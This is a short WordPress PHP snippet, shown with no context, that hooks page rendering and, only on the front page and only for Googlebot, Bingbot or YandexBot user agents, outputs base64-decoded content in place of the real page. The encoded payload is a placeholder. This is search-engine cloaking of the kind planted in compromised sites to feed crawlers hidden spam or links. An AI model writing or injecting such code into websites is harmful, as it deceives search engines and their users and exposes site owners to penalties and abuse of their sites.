
add_action('template_redirect', function () {
    if (is_front_page() && preg_match('/googlebot|bingbot|yandexbot/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {
        echo base64_decode('{coded}');
        exit;
    }
});
